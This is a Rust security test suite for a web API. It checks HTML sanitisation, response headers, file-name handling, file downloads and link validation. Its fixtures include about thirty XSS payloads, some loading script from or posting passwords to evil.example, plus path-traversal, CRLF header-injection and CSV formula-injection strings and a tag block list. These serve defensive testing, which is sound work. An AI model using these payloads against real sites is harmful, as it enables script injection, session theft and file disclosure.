//! G: script in texts, names and files.

use axum::http::Method;
use guanxi_testkit::Client;
use serde_json::{Value as Json, json};

use super::world::{Call, encode, on_both, on_sqlite, text_of};

/// Markup that runs in some browser if it is let.
const SCRIPTS: [&str; 30] = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"/api/v1/files/x\"/onload=alert(1)>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/api/v1/auth/logout\">x</a>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<form><form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<p onclick=alert(1) id=x class=y data-x=z>x</p>",
];

#[test]
fn rich_text_keeps_no_script_however_it_comes_in() {
    on_both(|world| {
        let harmless = |html: &str, from: &str| {
            let lower = html.to_lowercase();
            for bad in [
                "<script",
                " on",
                "javascript:",
                "vbscript:",
                "data:",
                "<svg",
                "<math",
                "<iframe",
                "<form",
                "<base",
                "<meta",
                "style=",
                "<object",
                "<embed",
                "<link",
                "<template",
                "<style",
                "srcdoc",
                "//evil",
            ] {
                // As text it may stand there: what is escaped is none.
                assert!(only_text(&lower, bad), "{from}: {html}");
            }
        };
        for script in SCRIPTS {
            let made = world.ask(&world.rep, &Call::post("/records/note", json!({ "title": "n", "body": format!("<p>a</p>{script}") }))).expect(201);
            let path = format!("/records/note/{}", text_of(&made, "id"));
            harmless(text_of(&made, "body"), script);
            let again = world.ask(&world.rep, &Call::patch(&path, json!({ "body": made["body"] }))).expect(200);
            assert_eq!(again["body"], made["body"], "what is clean stays as it is");
            let batch = json!({ "mode": "all_or_nothing", "operations": [{ "op": "update", "id": made["id"], "values": { "body": script.to_owned() + "<p>b</p>" } }] });
            // Where nothing harmless is left there is no body.
            let changed = world.ask(&world.rep, &Call::post("/records/note/batch", batch));
            assert!(changed.status == 200 || changed.json["field_errors"][0]["code"] == "required", "{script}: {}", changed.json);
            harmless(text_of(&world.rep.get(&path).expect(200), "body"), script);
        }
    });
}

/// Whether a piece of markup stands nowhere within a tag.
fn only_text(html: &str, piece: &str) -> bool {
    !html.split('<').skip(1).any(|it| format!("<{}", it.split('>').next().unwrap_or_default()).contains(piece))
}

#[test]
fn texts_are_answered_as_json_that_no_browser_takes_for_a_page() {
    on_both(|world| {
        for script in SCRIPTS.into_iter().filter(|it| !it.contains('\t')).take(6) {
            let name: String = script.chars().take(40).collect();
            let values = json!({ "name": name, "short_name": name, "description": script });
            let made = world.ask(&world.rep, &Call::post("/records/account", values)).expect(201);
            assert_eq!((&made["name"], &made["description"]), (&json!(name), &json!(script)), "texts are texts, not markup");
            world.ask(&world.rep, &Call::post("/records/tag", json!({ "name": name }))).expect(201);
            let view = json!({ "name": name, "object_name": "account", "config": { "x": script } });
            world.ask(&world.rep, &Call::post("/records/saved_view", view)).expect(201);
            world.ask(&world.rep, &Call::patch("/me", json!({ "preferences": { "x": script } }))).expect(200);
            for path in ["/records/account", "/records/tag", "/records/saved_view", "/me", "/search?q=script", "/events?after=0&limit=500"] {
                let reply = world.ask(&world.rep, &Call::get(path));
                assert_eq!(reply.header("content-type"), "application/json; charset=utf-8", "{path}");
                assert_eq!(reply.header("x-content-type-options"), "nosniff", "{path}");
            }
            // Errors reflect what was sent as JSON too, and pages reflect nothing.
            let query = encode(script);
            for path in [format!("/records/account?sort={query}"), format!("/records/{query}"), format!("/search?{query}=1")] {
                let reply = world.ask(&world.rep, &Call::get(&path));
                assert_eq!(reply.header("content-type"), "application/problem+json; charset=utf-8", "{path}");
            }
            for page in [format!("/sign-in?next={query}"), format!("/{query}"), format!("/reset?token={query}")] {
                let reply = world.server.anonymous().send(Method::GET, &page, None);
                assert!(!String::from_utf8_lossy(&reply.bytes).contains(script), "{page}");
                let policy = reply.header("content-security-policy");
                assert!(policy.contains("script-src 'self';") && !policy.contains("script-src 'self' '"), "{policy}");
            }
        }
        sessions_tell_of_devices_as_text(world);
    });
}

fn sessions_tell_of_devices_as_text(world: &super::world::World<'_>) {
    let mut browser = world.server.anonymous().with_header("user-agent", "<script>alert(1)</script>").with_header("referer", "javascript:alert(1)");
    browser.sign_in("rep@test.example", guanxi_testkit::PASSWORD).expect(200);
    let listed = world.admin.get(&format!("/users/{}/sessions", world.rep_id));
    assert_eq!(listed.header("content-type"), "application/json; charset=utf-8");
}

fn up(client: &Client<'_>, disposition: &str, content_type: &str, bytes: &[u8]) -> guanxi_testkit::Reply {
    client.with_header("content-disposition", disposition).post_bytes("/files", content_type, bytes)
}

/// Even where programs are kept, which is not so by itself, they are only ever downloaded.
fn keep_programs(world: &super::world::World<'_>) {
    world.admin.patch("/file-policy", json!({ "programs": "download" })).expect(200);
}

#[test]
fn file_names_break_out_of_no_header_and_no_folder() {
    on_sqlite(|world| {
        keep_programs(world);
        let long = format!("{}.txt", "n".repeat(4_000));
        for name in [
            "\"><svg onload=alert(1)>.png",
            "a\r\nSet-Cookie: guanxi_session=x\r\n\r\n<script>.txt",
            "a\u{202e}gnp.exe",
            "..\\..\\windows\\win.ini",
            "../../../../etc/passwd",
            "/etc/passwd",
            "C:\\autoexec.bat",
            "a\u{0}.png",
            "a;b=c; filename=\"evil.exe\"",
            "\u{ff0e}\u{ff0e}\u{2215}x",
            "CON",
            "=cmd|' /C calc'!A0.csv",
            "%0d%0aX-Evil: 1.txt",
            long.as_str(),
        ] {
            let reply = up(&world.rep, &format!("attachment; filename*=UTF-8''{}", encode(name)), "text/plain", b"x");
            assert!([201, 400].contains(&reply.status), "{name:?}: {}", reply.json);
            if reply.status == 400 {
                continue;
            }
            let kept = text_of(&reply.json, "name").to_owned();
            assert!(kept.chars().count() <= 200 && !kept.contains(['/', '\\', '\r', '\n', '\u{0}', '\u{202e}']), "{kept:?}");
            let down = world.ask(&world.rep, &Call::get(format!("/files/{}", text_of(&reply.json, "id"))));
            let disposition = down.header("content-disposition");
            let quoted = disposition.split('"').collect::<Vec<_>>();
            assert!(disposition.starts_with("attachment; filename=\"") && quoted.len() == 3, "{disposition}");
            assert!(disposition.is_ascii() && !quoted[1].contains(['<', '>', ';', '\\', '/']), "{disposition}");
            assert!(down.headers.get("set-cookie").is_none() && down.headers.get("x-evil").is_none());
        }
        let folder = world.server.data_folder();
        assert!(!folder.join("passwd").exists() && !folder.join("files/passwd").exists());
    });
}

#[test]
fn a_file_never_runs_in_our_own_name() {
    on_sqlite(|world| {
        keep_programs(world);
        let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".as_slice();
        let html = b"<html><script>alert(1)</script>".as_slice();
        let polyglot = b"GIF89a/*<script>*/=alert(1)//</script>".as_slice();
        for (name, kind, bytes) in [
            ("a.svg", "image/svg+xml", svg),
            ("a.png", "image/png", html),
            ("a.html", "text/html", html),
            ("a.xhtml", "application/xhtml+xml", html),
            ("a.gif", "text/html", polyglot),
            ("a.js", "text/javascript", html),
            ("a.xml", "text/xml", svg),
            ("a.pdf", "application/pdf", html),
            ("a.txt", "text/html\r\nx-evil: 1", html),
        ] {
            let safe = kind.replace(['\r', '\n'], " ");
            let made = up(&world.rep, &format!("attachment; filename=\"{name}\""), &safe, bytes).expect(201);
            for query in ["", "?inline=1"] {
                let down = world.ask(&world.rep, &Call::get(format!("/files/{}{query}", text_of(&made, "id"))));
                let policy = down.header("content-security-policy");
                assert!(policy.contains("default-src 'none'") && policy.contains("sandbox") && !policy.contains("allow-"), "{name}: {policy}");
                assert_eq!(down.header("x-content-type-options"), "nosniff", "{name}");
                let shown = down.header("content-disposition").starts_with("inline");
                assert!(!shown || down.header("content-type") == "image/gif", "{name}{query}: {}", down.header("content-type"));
            }
        }
    });
}

#[test]
fn links_are_of_schemes_that_only_lead_somewhere() {
    on_both(|world| {
        for link in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\nscript:alert(1)",
            "vbscript:x",
            "data:text/html,x",
            "file:///etc/passwd",
            "ftp://x.example",
            "https://good.example@evil.example",
            "https://evil.example\\@good.example",
            "http://",
            "https://x.example\u{0}",
        ] {
            let reply = world.ask(&world.rep, &Call::patch(world.own.path("account"), json!({ "website": link })));
            reply.field_problem(422, "website", "bad_format");
        }
        for phone in ["tel:+8613812345678;phone-context=x", "javascript:1", "13812345678<script>", "*#06#"] {
            let reply = world.ask(&world.rep, &Call::post("/records/contact", json!({ "name": "x", "wechat": "x", "mobile": phone })));
            let kept: Json = reply.json["mobile"].clone();
            assert!(reply.status == 422 || kept == json!("+8613812345678"), "{phone}: {}", reply.json);
        }
        for email in ["a@x.example\r\nBcc: b@x.example", "\"<script>\"@x.example", "a@x.example,b@x.example", "a@[127.0.0.1]\n"] {
            let reply = world.ask(&world.rep, &Call::post("/records/contact", json!({ "name": "x", "wechat": "x", "email": email })));
            assert!(reply.status == 422 || !text_of(&reply.json, "email").contains(['\r', '\n', '<', ',']), "{email}: {}", reply.json);
        }
    });
}
